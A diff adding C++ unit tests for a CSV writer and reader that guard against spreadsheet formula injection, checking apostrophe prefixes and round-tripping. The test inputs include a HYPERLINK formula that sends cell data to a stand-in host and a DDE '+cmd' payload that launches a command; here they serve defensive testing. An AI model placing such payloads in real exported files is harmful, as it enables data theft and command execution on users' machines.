@@ -141,3 +141,31 @@ TEST(Csv, EmptyInputGivesNoRows) {
   EXPECT_TRUE(read_csv("").empty());
   EXPECT_TRUE(read_csv("\xEF\xBB\xBF").empty());
 }
+
+TEST(Csv, CellsASpreadsheetWouldRunAsFormulasAreWrittenAsText) {
+  // OWASP "CSV Injection": a leading '=', '+', '-', '@', tab or CR gets an apostrophe.
+  std::string out = write_csv({{"=HYPERLINK(\"http://x.example/?d=\"&A1,\"Klik\")", "+cmd|' /C calc'!A0", "-2+3",
+                                "@SUM(A1:A2)", "\tTab", "\rCR", "Aman = biasa"}},
+                              ';');
+  EXPECT_EQ(out,
+            "\xEF\xBB\xBF"
+            "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Klik\"\")\";'+cmd|' /C calc'!A0;'-2+3;'@SUM(A1:A2);"
+            "'\tTab;\"'\rCR\";Aman = biasa\r\n");
+  // Signed numbers are numbers, not formulas; an apostrophe a user wrote before one stays.
+  EXPECT_EQ(write_csv({{"-5", "+62812", "-1.250,5", "'-5", "-", "'"}}),
+            "\xEF\xBB\xBF"
+            "-5,+62812,\"-1.250,5\",'-5,'-,'\r\n");
+  // A cell that already starts with apostrophes before a formula keeps them: one more is added.
+  EXPECT_EQ(write_csv({{"'=1+1"}}),
+            "\xEF\xBB\xBF"
+            "''=1+1\r\n");
+}
+
+TEST(Csv, TheFormulaGuardIsRemovedOnReadSoEveryCellComesBackAsItWas) {
+  std::vector<Row> rows = {{"=HYPERLINK(\"http://x.example\")", "+62 812", "-", "@mention", "\tTab"},
+                           {"'=1+1", "''@x", "'-5", "-5", "'teks", "'"}};
+  EXPECT_EQ(read_csv(write_csv(rows)), rows);
+  EXPECT_EQ(read_csv(write_csv(rows, ';')), rows);
+  // What a user typed with Excel's text prefix reads as the text it shows.
+  EXPECT_EQ(read_csv("'=SUM(A1),'teks\n")[0], (Row{"=SUM(A1)", "'teks"}));
+}
